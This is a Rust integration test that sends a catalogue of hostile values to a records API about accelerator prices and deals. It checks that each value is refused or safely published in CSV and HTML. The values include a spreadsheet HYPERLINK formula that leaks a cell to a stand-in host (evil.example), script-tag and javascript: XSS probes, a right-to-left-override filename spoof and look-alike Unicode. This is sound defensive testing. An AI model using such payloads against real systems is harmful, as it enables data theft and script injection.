//! The catalogue of hostile values (issue 15): boundaries of every numeric field,
//! exponent and fraction spellings, huge exponents, negative zero, NaN and Infinity,
//! overlong strings, look-alike Unicode, invisible characters and formula-leading text.
//! Each is either refused with its record index and field, or accepted and published
//! safely (exact in the plain CSV, defused in the spreadsheet CSV, escaped in HTML).
//! docs/RELIABILITY.md lists them.

use axum::http::StatusCode;
use serde_json::Value;

use crate::records::domain;
use crate::records::kinds::examples;
use crate::testing::TestApp;

/// What must happen to a hostile value.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Expect {
    /// 422 naming record 0 and this field.
    Refused,
    /// Not even JSON (NaN, 1e400 as a number): 400, nothing written.
    NotJson,
    /// Accepted; published exactly as given, safely.
    Published,
}

/// One case: which example record, which field, the value as raw JSON text.
struct Case {
    example: usize,
    field: &'static str,
    raw: String,
    expect: Expect,
}

fn case(example: usize, field: &'static str, raw: impl Into<String>, expect: Expect) -> Case {
    Case { example, field, raw: raw.into(), expect }
}

fn text(value: &str) -> String {
    Value::String(value.to_owned()).to_string()
}

const QUEUE: usize = 0;
const ACCEPTANCE: usize = 1;
const PRICE: usize = 2;
const LOCKUP: usize = 3;
const CAPACITY: usize = 4;

fn catalogue() -> Vec<Case> {
    use Expect::{NotJson, Published, Refused};
    let over = |d: domain::Count| (d.max + 1).to_string();
    vec![
        // Whole numbers: boundaries, spellings, sizes.
        case(QUEUE, "jobs", "0", Refused),
        case(QUEUE, "jobs", over(domain::JOBS), Refused),
        case(QUEUE, "jobs", "9007199254740993", Refused),
        case(QUEUE, "jobs", "10000000000000000000", Refused),
        case(QUEUE, "jobs", "100000000000000000000000", Refused),
        case(QUEUE, "jobs", "-1", Refused),
        case(QUEUE, "jobs", "-0", Refused),
        case(QUEUE, "jobs", "1e3", Refused),
        case(QUEUE, "jobs", "1.0", Refused),
        case(QUEUE, "jobs", "1E+2", Refused),
        case(QUEUE, "jobs", "1e400", NotJson),
        case(QUEUE, "jobs", "NaN", NotJson),
        case(QUEUE, "jobs", "Infinity", NotJson),
        case(QUEUE, "jobs", text("Infinity"), Refused),
        case(QUEUE, "jobs", text("1e3"), Refused),
        case(QUEUE, "jobs", text("\u{FF11}\u{FF12}"), Refused),
        case(QUEUE, "jobs", text("99999999999999999999999"), Refused),
        case(QUEUE, "p50_seconds", over(domain::WAIT_SECONDS), Refused),
        case(ACCEPTANCE, "received", over(domain::APPLICATIONS), Refused),
        case(ACCEPTANCE, "accelerator_hours_requested", over(domain::ACCELERATOR_HOURS), Refused),
        case(LOCKUP, "accelerators", over(domain::LOCKED_ACCELERATORS), Refused),
        case(CAPACITY, "total_accelerators", text("-0"), Refused),
        // Decimals: precision, range, spellings.
        case(PRICE, "price_per_accelerator_hour", text("0.0000000000001"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("1000000.000000000001"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("99999999999999999999999999999"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("1e2"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("NaN"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("-Infinity"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("+2.49"), Refused),
        case(PRICE, "price_per_accelerator_hour", text(" 2.49"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("2,49"), Refused),
        case(PRICE, "price_per_accelerator_hour", text("-0.01"), Refused),
        case(PRICE, "price_per_accelerator_hour", "2.49", Refused),
        case(PRICE, "price_per_accelerator_hour", text(&"9".repeat(5000)), Refused),
        case(PRICE, "price_per_accelerator_hour", text("-0"), Published),
        case(CAPACITY, "utilisation", text("1.000000000001"), Refused),
        case(LOCKUP, "contract_value", text("1000000000000001"), Refused),
        // Dates.
        case(QUEUE, "period_start", text("0001-01-01"), Refused),
        case(QUEUE, "period_start", text("9999-12-01"), Refused),
        case(QUEUE, "period_start", text("2026-1-1"), Refused),
        case(QUEUE, "period_start", text("+2026-10-01"), Refused),
        case(PRICE, "effective_date", text("1969-12-31"), Refused),
        // Identifiers: look-alikes and case.
        case(QUEUE, "resource", text("nv\u{0456}dia-h100"), Refused),
        case(QUEUE, "resource", text("NVIDIA"), Refused),
        case(QUEUE, "region", text("\u{FF45}\u{FF55}"), Refused),
        case(PRICE, "currency", text("usd"), Refused),
        case(PRICE, "currency", text("\u{FF35}\u{FF33}\u{FF24}"), Refused),
        // Free text: length, invisible and control characters, formulas, markup.
        case(LOCKUP, "counterparty", text(&"x".repeat(201)), Refused),
        case(LOCKUP, "counterparty", text("Acme\u{202E}gnp.exe"), Refused),
        case(LOCKUP, "counterparty", text("Ac\u{200B}me"), Refused),
        case(LOCKUP, "counterparty", text("Acme\tLab"), Refused),
        case(LOCKUP, "counterparty", text("Acme\r\nLab"), Refused),
        case(LOCKUP, "counterparty", text("Acme\u{2028}Lab"), Refused),
        case(LOCKUP, "notes", text("null\u{0}byte"), Refused),
        case(LOCKUP, "source_url", text("javascript:alert(1)"), Refused),
        case(LOCKUP, "counterparty", text("=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")"), Published),
        case(LOCKUP, "counterparty", text("@SUM(A1:A9)"), Published),
        case(LOCKUP, "counterparty", text("-2+3 Capital"), Published),
        case(LOCKUP, "counterparty", text("+44 Holdings"), Published),
        case(LOCKUP, "counterparty", text("Fr\u{043E}nt\u{0456}er Model Lab"), Published),
        case(LOCKUP, "counterparty", text("<script>alert(1)</script>"), Published),
    ]
}

/// The example record with `field` set to the raw JSON text `raw`, as a one-record array.
fn body(case: &Case, counterparty: usize) -> String {
    let mut record = examples()[case.example].clone();
    if case.example == LOCKUP && case.field != "counterparty" {
        // Each lock-up its own deal, so that none amends another.
        record["counterparty"] = Value::String(format!("Hostile case {counterparty}"));
    }
    record[case.field] = Value::String("\u{1}PLACEHOLDER\u{1}".into());
    format!("[{}]", record.to_string().replace("\"\\u0001PLACEHOLDER\\u0001\"", &case.raw))
}

#[tokio::test]
async fn every_hostile_value_is_refused_with_its_field_or_published_safely() {
    let app = TestApp::new().await;
    let token = app.provider_token("hostile-cloud").await;
    let cases = catalogue();
    assert!(cases.len() >= 30, "the catalogue covers at least 30 values");
    let mut published = Vec::new();
    for (n, case) in cases.iter().enumerate() {
        let before = app.tree_size().await;
        let body = body(case, n);
        let mut response = app.post("/api/v1/records", "application/json", body.clone(), Some(&token), &[]).await;
        // The per-token rate limit (10/s, burst 30) applies to tests too: wait it out.
        while response.status == StatusCode::TOO_MANY_REQUESTS {
            tokio::time::sleep(std::time::Duration::from_millis(250)).await;
            response = app.post("/api/v1/records", "application/json", body.clone(), Some(&token), &[]).await;
        }
        let what = format!("{} = {}: {}", case.field, case.raw.chars().take(80).collect::<String>(), response.text());
        match case.expect {
            Expect::Refused => {
                response.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
                let details = response.json()["error"]["details"].clone();
                let named = details.as_array().is_some_and(|list| {
                    list.iter().any(|d| d["index"] == 0 && d["field"] == case.field && d["reason"].is_string())
                });
                assert!(named, "not refused with index 0 and its field: {what}");
            }
            Expect::NotJson => {
                assert_eq!(response.status, StatusCode::BAD_REQUEST, "{what}");
                assert_eq!(response.json()["error"]["code"].as_str().map(str::is_empty), Some(false), "{what}");
            }
            Expect::Published => {
                assert_eq!(response.status, StatusCode::CREATED, "{what}");
                published.push(case);
            }
        }
        if case.expect != Expect::Published {
            assert_eq!(app.tree_size().await, before, "nothing written for {what}");
        }
    }

    // What was accepted is published exactly in the plain CSV, defused in the one for
    // spreadsheets, escaped in HTML, and every page and export still works.
    let plain = csv_column(&app.get("/data/lockups.csv").await.text(), "counterparty");
    let excel = csv_column(&app.get("/data/lockups.csv?bom=1").await.text(), "counterparty");
    let scorecard = app.get("/providers/hostile-cloud").await;
    scorecard.assert_status(StatusCode::OK);
    let cells = scorecard.html().texts_of("th[scope=row]");
    for case in published.iter().filter(|c| c.field == "counterparty") {
        let value: String = serde_json::from_str(&case.raw).expect("a JSON string");
        assert!(plain.contains(&value), "plain CSV lacks {value:?}: {plain:?}");
        let risky = value.starts_with(['=', '+', '-', '@']);
        let expected = if risky { format!("'{value}") } else { value.clone() };
        assert!(excel.contains(&expected), "spreadsheet CSV lacks {expected:?}: {excel:?}");
        assert!(cells.contains(&value), "the scorecard does not show {value:?} as text");
    }
    assert!(!scorecard.text().contains("<script>alert"), "markup is escaped");
    let prices = csv_column(&app.get("/data/prices.csv").await.text(), "price_per_accelerator_hour");
    assert_eq!(prices, ["0"], "negative zero is zero");
}

/// The values of one column of a CSV document (with or without a byte-order mark).
fn csv_column(text: &str, column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().expect("header").clone();
    let at = headers.iter().position(|h| h == column).expect("column");
    reader.records().map(|r| r.expect("row")[at].to_owned()).collect()
}
